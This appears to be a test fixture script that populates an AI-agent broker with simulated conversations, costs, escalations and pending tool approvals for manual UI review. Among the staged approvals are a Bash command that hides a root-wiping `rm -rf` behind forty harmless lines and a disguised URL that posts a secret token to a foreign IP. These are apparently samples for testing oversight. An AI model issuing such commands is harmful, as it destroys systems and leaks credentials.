// A workspace on a busy day: fifteen agents, a hundred conversations, and of everything that waits for a human, goes wrong or
// costs something more than one. To be looked at by hand, from the folder that .ci/browser/run fills: node busy.mjs says how
// to sign in, and keeps it until it is interrupted.
import { once } from 'node:events';
import { Broker, until } from './world.mjs';

const AGENTS = ['planner', 'coder', 'reviewer', 'tester', 'ops', 'dba', 'scout', 'writer', 'billing', 'support', 'crawler', 'editor', 'release', 'translator', 'legacy'];
const MODELS = [['claude-opus', 15e-6], ['claude-sonnet', 3e-6], ['gpt-mini', 0.4e-6]];
const SUBJECTS = [
  'Fix the login on Safari', 'Why is checkout slow?', 'Write the notes of release 4.2', 'Upgrade the JSON parser', 'Find dead code in the importer',
  'Answer the ticket about invoices', 'Raise the cache\'s time to live', 'List who still uses the old API', 'Rename the module `pay`', 'Check the backups of last night',
];
const CONFIG = `[limits]
ack_woken_ms = 1000
ack_polling_ms = 1000
approval_ms = 1800000
sender_messages_max = 100000
pair_messages_max = 100000
fan_out_targets_max = 100000
inbox_max = 100000
escalations_open_max = 8
turns_soft_max = 12
grant_tokens_max = 400000
`;

/** Fills this broker: what is written here is what its pages are judged by. */
const fill = async (broker) => {
  const post = (who, path, body) => broker.call(who, 'POST', path, body);
  const finish = (who, turn, answer, more) => post(who, `/turns/${turn.id}/finish`, { answer, ...more });
  const request = (who, to, body, more) => post(who, '/messages', { type: 'request', to, body, ...more });
  const refused = (promise) => promise.then(() => { throw new Error('nothing refused this'); }, () => {});
  const spent = (n, tokens = 4_000 + ((n * 7_919) % 40_000)) => {
    const [model, price] = MODELS[n % MODELS.length];
    const cost = Number((tokens * price).toFixed(6));
    return { input_tokens: tokens - 500, output_tokens: 500, cost_usd: cost, models: [{ model, tokens, cost_usd: cost }] };
  };
  /** What an agent takes next has this REF. */
  const takes = async (who, ref) => {
    for (;;) {
      const taken = await broker.take(who);
      if (taken?.message.ref === ref || taken?.message.ref?.startsWith(`${ref}/`)) return taken;
      if (taken?.turn) await finish(who, taken.turn, 'Seen.');
    }
  };
  const starts = async (who, ref, body) => {
    await broker.ask(who, ref, body);
    return (await takes(who, ref)).turn;
  };

  for (const name of AGENTS) await broker.agent(name);
  // Nobody takes what legacy is asked: each of these times out, and asks the human.
  for (let n = 1; n <= 7; n += 1) await broker.ask('legacy', `LEGACY-${n}`, SUBJECTS[n]);

  // Work of the day that ended, each its own way.
  await Promise.all(['coder', 'reviewer', 'tester', 'scout', 'writer', 'billing'].map(async (who, lane) => {
    for (let n = 0; n < 14; n += 1) {
      const k = lane * 14 + n;
      const ref = `${['WEB', 'API', 'DOCS', 'OPS', 'PAY', 'CRM'][lane]}-${n + 1}`;
      const turn = await starts(who, ref, SUBJECTS[k % SUBJECTS.length]);
      const usage = spent(k);
      if (k % 17 === 3) await finish(who, turn, '', { status: 'failed', reason: 'the build can\'t be reproduced: the registry answers 503', usage });
      else if (k % 13 === 5) await finish(who, turn, 'Two of three parts are done.', { status: 'partial', completed: ['a', 'b'], failed: ['c'], usage });
      else if (k % 23 === 7) await post('operator', `/conversations/${ref}/stop`);
      else await finish(who, turn, `Done. ${SUBJECTS[k % SUBJECTS.length]}: the change is on the branch \`${ref.toLowerCase()}\`, and **all 214 tests** pass.`, { usage });
    }
  }));

  // A chain of three with all that happens on the way, which goes on.
  const plan = await starts('planner', 'SHOP-1', 'Bring the new checkout to production\nand tell support what changes for them.');
  await request('planner', 'coder', 'Build the new checkout behind a flag.');
  await finish('planner', plan, '', { usage: spent(0, 30_000) });
  const built = await takes('coder', 'SHOP-1');
  await request('coder', 'reviewer', 'Review the change of the checkout.');
  await finish('coder', built.turn, '', { usage: spent(0, 120_000) });
  const review = await takes('reviewer', 'SHOP-1');
  await refused(request('reviewer', 'coder', 'You review it yourself.'));
  await finish('reviewer', review.turn, 'Fine, but for the rounding of the tax.', { usage: spent(1, 61_000) });
  const again = await takes('coder', 'SHOP-1');
  await finish('coder', again.turn, 'The checkout is built, and the tax is rounded last.', { usage: spent(0, 20_000) });
  const last = await takes('planner', 'SHOP-1');
  await post('planner', `/turns/${last.turn.id}/progress`, { note: 'Writes to support', usage: spent(0, 9_000) });

  // Three agents ask each other in a circle, until a rule cuts it.
  await starts('scout', 'LOOP-1', 'Is the release ready?');
  await request('scout', 'editor', 'Please check the notes of the release.');
  await takes('editor', 'LOOP-1');
  await request('editor', 'release', 'Please check the release.');
  await takes('release', 'LOOP-1');
  await refused(request('release', 'scout', 'Is the release ready?'));

  // Calls that wait for a human: some alike, some dangerous, one that hides where it goes.
  const holds = (who, tool, args, reason) => post(who, '/approvals', { tool, arguments: args, reason });
  const ops = await starts('ops', 'DEPLOY-9', 'Deploy the checkout to eu-west.');
  await holds('ops', 'Bash', { command: 'kubectl --context prod apply -f checkout.yaml && kubectl --context prod rollout status deploy/checkout' }, 'The tests pass; this is the deployment you asked for.');
  await holds('ops', 'Bash', { command: `set -euo pipefail\ncd /srv/releases\n${Array.from({ length: 40 }, (_, n) => `test -d r${n} && du -sh r${n}`).join('\n')}\nrm -rf "\${KEEP:-/}"/*\nls -la` }, 'The disk is 96 % full.');
  await holds('ops', 'WebFetch', { url: 'https://api.vendor.example@203.0.113.7:8443/v2/keys?token=sk-live-51Habcdef0123456789', method: 'POST' }, 'The vendor moved.');
  await post('ops', `/turns/${ops.id}/progress`, { usage: spent(1, 44_000) });
  await starts('dba', 'DATA-4', 'Remove accounts that nobody used since 2019.');
  await holds('dba', 'query', { database: 'accounts', sql: 'DELETE FROM accounts\n WHERE last_seen < \'2019-01-01\'\n   AND plan = \'free\'' }, '41 207 rows, counted before.');
  await post('dba', '/escalations', { message: 'Three accounts belong to **one customer who pays by invoice**. Keep them?', options: ['keep them', 'remove them', 'ask billing'] });
  await starts('crawler', 'CRAWL-2', 'Fetch the price lists of all vendors.');
  for (const page of ['a', 'b', 'c']) await holds('crawler', 'WebFetch', { url: `https://prices.example/${page}.json` }, 'The next list.');
  await starts('writer', 'EDIT-3', 'Correct the page about refunds.');
  await holds('writer', 'Edit', { file_path: 'docs/refunds.md', old_string: 'Refunds take 14 days.\nWrite to support.', new_string: 'Refunds take 3 days.\nPress *Refund* on the order.' }, 'The page is of last year.');
  for (const who of ['billing', 'support', 'tester', 'reviewer']) {
    await starts(who, `TEST-${who}`, 'Run the tests before you go on.');
    await holds(who, 'Bash', { command: 'npm test' }, 'The tests are slow, and need a go.');
  }
  await post('support', '/escalations', { message: 'A customer asks for a refund of **$1,240** from last year. Our rule says 12 months. What shall I tell them?', options: [] });
  await post('billing', '/escalations', { message: 'Which rate of tax from January on?', options: ['19 %', '7 %'] });

  // A grant that used up its tokens, and a conversation that used up its messages: their work is held.
  const big = await starts('translator', 'BUDGET-1', 'Translate the handbook into nine languages.');
  await post('translator', `/turns/${big.id}/progress`, { usage: spent(0, 450_000) });
  await refused(request('translator', 'coder', 'Translate chapter 4.'));
  await post('operator', '/rooms', { name: 'lounge', members: ['coder', 'tester'] });
  for (let n = 0; n < 14; n += 1) await post(n % 2 ? 'coder' : 'tester', '/rooms/lounge/messages', { body: `I looked at part ${n}.` }).catch(() => {});

  await post('operator', '/schedules', { name: 'nightly', cron: '0 2 * * *', time_zone: 'Europe/Berlin', to: 'tester', body: 'Run the whole suite.' });
  await post('planner', '/claims', { resource: 'repo:src/pay/*', ttl_ms: 600_000 });
  await post('operator', '/agents/billing/pause');
  // What waits for legacy is given up after its second delivery.
  await until(async () => (await broker.call('operator', 'GET', '/escalations?limit=500')).items.filter(({ cause }) => cause === 'timed_out').length >= 7, true);
};

process.env.LASTWORD ??= '../debug/lastword';
const broker = await Broker.start(CONFIG);
try {
  await fill(broker);
  const { path } = await broker.call('operator', 'POST', '/sign-in/link', {});
  console.log(`${broker.url}${path} signs in once, within 15 minutes; the token: ${broker.tokens.operator}`);
  await once(process, 'SIGINT');
} finally {
  await broker.end();
}
